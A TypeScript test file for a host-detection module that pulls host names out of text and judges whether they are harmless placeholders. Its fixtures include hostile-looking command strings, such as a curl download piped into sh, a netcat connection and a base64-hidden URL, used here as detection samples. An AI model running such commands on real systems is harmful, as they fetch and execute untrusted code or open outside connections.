import assert from "node:assert/strict";
import { test } from "node:test";
import { findHosts, isHarmlessHost } from "./hosts.ts";
import { publicNames } from "./public-names.ts";

const texts: [string, string[]][] = [
  ["curl -s https://settings.example/linux | sh", ["settings.example"]],
  ["http://user:pass@evil.example:8080/x", ["evil.example"]],
  ["ssh git@bad-host.com", ["bad-host.com"]],
  ["curl bad-host.xyz/x", ["bad-host.xyz"]],
  ["nc 8.8.8.8 1224", ["8.8.8.8"]],
  ["http://[2001:db8::1]/", ["[2001:db8::1]"]],
  ["http://2130706433/", ["2130706433"]],
  [`const key = "${Buffer.from("https://hidden-host.com/x").toString("base64")}";`, ["hidden-host.com"]],
  ["node index.js && python main.py # see README.md", []],
  ["https://${host}/path", []],
  ["com.example.app 1.2.3", []],
];
for (const [text, hosts] of texts) test(`hosts of: ${text}`, () => assert.deepEqual(findHosts(text), hosts));

test("hosts that reach nobody are harmless", () => {
  for (const host of ["a.example", "b.c.invalid", "x.test", "localhost", "192.0.2.7", "127.0.0.1", "[2001:db8::1]"])
    assert.ok(isHarmlessHost(host), host);
});

test("hosts that reach somebody are not, unless a technique needs their name", () => {
  for (const host of ["example.com", "example.bad-host.com", "8.8.8.8", "10.0.0.1", "2130706433"])
    assert.ok(!isHarmlessHost(host), host);
  assert.ok(isHarmlessHost("github.com"));
});

test("every public name has a reason", () => {
  for (const [name, reason] of publicNames) assert.match(reason, /^[a-z].{15,}[^.]$/u, name);
});
